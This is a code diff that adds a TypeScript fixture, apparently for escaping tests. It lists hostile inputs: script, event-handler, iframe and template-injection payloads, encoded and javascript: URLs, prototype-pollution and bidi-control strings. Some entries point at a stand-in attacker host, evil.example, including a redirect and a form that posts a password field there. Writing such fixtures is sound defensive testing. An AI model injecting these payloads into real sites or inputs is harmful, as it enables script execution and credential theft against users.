@@ -1,0 +1,20 @@
+/** Texts that would do something if any of them were taken for markup, for an attribute, a template, a link or a key. */
+export const HOSTILE = [
+  '<script>window.executed = 1</script>',
+  '<img src=x onerror="window.executed = 1">',
+  '<svg onload="window.executed = 1"></svg>',
+  '"><iframe srcdoc="<script>parent.executed = 1</script>">',
+  `' autofocus onfocus='window.executed = 1`,
+  '</title></style></textarea><script>window.executed = 1</script>',
+  '<details open ontoggle="window.executed = 1"><a href="javascript:window.executed = 1">x</a>',
+  '<style>@import "//evil.example/x.css"; body { display: none }</style>',
+  '<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example">',
+  '<form action="//evil.example"><input name="password"><button>x</button></form>',
+  '{{constructor.constructor("window.executed = 1")()}} #{window.executed = 1} `x`',
+  '&lt;script&gt;window.executed = 1&lt;/script&gt; &#x3c;img&#x3e;',
+  'javascript:window.executed=1 data:text/html,<script>window.executed=1</script>',
+  '\u202e<tpircs> desrever \u2066 \u200b\ufeff',
+  '__proto__',
+  'W'.repeat(100),
+  '长'.repeat(30),
+] as const
